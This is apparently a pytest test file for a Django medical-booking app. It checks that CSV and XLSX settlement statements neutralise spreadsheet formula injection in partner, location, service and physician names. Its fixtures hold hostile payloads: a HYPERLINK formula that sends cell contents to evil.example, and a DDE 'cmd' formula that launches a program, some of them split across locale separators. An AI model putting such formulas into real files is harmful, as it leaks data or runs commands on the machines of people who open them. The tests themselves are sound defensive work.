"""F5: names that a spreadsheet would run as formulas reach the CSV and XLSX statements as plain text."""

import csv
import io
from decimal import Decimal, InvalidOperation

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from medbook.reports.exports import FORMULA_STARTS, neutralised
from medbook.reports.tests.data import PERIOD, generate

pytestmark = pytest.mark.django_db
QUERY = {"date_from": PERIOD[0].isoformat(), "date_until": PERIOD[1].isoformat()}


@pytest.fixture(params=FORMULA_STARTS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def hostile(request, cast, partners) -> str:
    """Every name on the statement starts with one formula character."""
    payload = f'{request.param}HYPERLINK("https://evil.example/?x="&A1,"Click")'
    generate(cast, partners, count=8, partner_count=1)
    for obj, field in (
        (partners.partner_p, "name"),
        (cast.institution_a, "name"),
        (cast.location_a1, "name"),
        (cast.service_a, "name"),
        (cast.physician_a, "full_name"),
    ):
        setattr(obj, field, payload)
        obj.save(update_fields=[field])
    return payload


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def test_f5_csv_cells_never_start_a_formula(cast, partners, hostile, login):
    url = reverse("reports:settlement-download", args=[partners.partner_p.pk, "csv"])
    response = login(cast.alice).get(url, QUERY)
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
    assert "'" + hostile in cells and hostile not in cells
    assert all(not cell.startswith(FORMULA_STARTS) or _is_number(cell) for cell in cells)


@pytest.mark.parametrize("who", ["institution", "partner"])
def test_f5_xlsx_has_no_formula_and_keeps_numbers(cast, partners, hostile, login, who):
    if who == "institution":
        url = reverse("reports:settlement-download", args=[partners.partner_p.pk, "xlsx"])
        response = login(cast.alice).get(url, QUERY)
    else:
        url = reverse("reports:partner-statement-download", args=[cast.institution_a.pk, "xlsx"])
        response = login(partners.paula).get(url, QUERY)
    assert response.status_code == 200
    cells = [cell for row in load_workbook(io.BytesIO(response.content)).active.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    values = [cell.value for cell in cells]
    read_back = hostile.replace("\r", "\n")  # XML hands a carriage return back as a line feed
    assert "'" + read_back in values and read_back not in values
    assert any(isinstance(value, int | float) and value > 0 for value in values)  # amounts are still numbers


def test_f5_only_text_is_prefixed():
    assert neutralised(Decimal("-5.00")) == Decimal("-5.00") and neutralised(-3) == -3
    assert neutralised("-5") == "'-5" and neutralised("Dr. =Smith") == "Dr. =Smith"


# Issue 19: a formula behind the other locale's separator. A Hungarian ";" file opened by a "," reader (and
# the reverse) splits a cell at the other separator: no piece may then start a formula.
SPLIT_PAYLOADS = (
    'Dr.,=HYPERLINK("https://evil.example/","Click")',
    "Dr.;=cmd|' /C calc'!A0",
    "Dr., +1+1",
    'Dr.,"=1+1"',
    "Dr.\n@SUM(1)",
    "  =1+1",
)


def _hostile_names(cast, partners, payload) -> None:
    generate(cast, partners, count=4, partner_count=1)
    for obj, field in ((partners.partner_p, "name"), (cast.location_a1, "name"), (cast.service_a, "name")):
        setattr(obj, field, payload)
        obj.save(update_fields=[field])


def _read(text: str, delimiter: str) -> list[str]:
    """The cells a reader splitting at `delimiter` sees, and those of a naive one that ignores quotes."""
    quoted = [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
    naive = [piece for line in text.splitlines() for piece in line.split(delimiter)]
    return quoted + naive


@pytest.mark.parametrize("language", ["en", "hu"])
@pytest.mark.parametrize("payload", SPLIT_PAYLOADS, ids=range(len(SPLIT_PAYLOADS)))
def test_finding_csv_formula_through_the_other_locales_separator(cast, partners, login, language, payload):
    _hostile_names(cast, partners, payload)
    client = login(cast.alice)
    client.post(reverse("core:language-set"), {"language": language})
    url = reverse("reports:settlement-download", args=[partners.partner_p.pk, "csv"])
    response = client.get(url, QUERY)
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    for delimiter in (",", ";"):
        for cell in _read(text, delimiter):
            stripped = cell.lstrip(' \t\r\n"')
            assert not stripped.startswith(FORMULA_STARTS) or _is_number(stripped.replace(",", ".")), (
                delimiter,
                cell,
            )
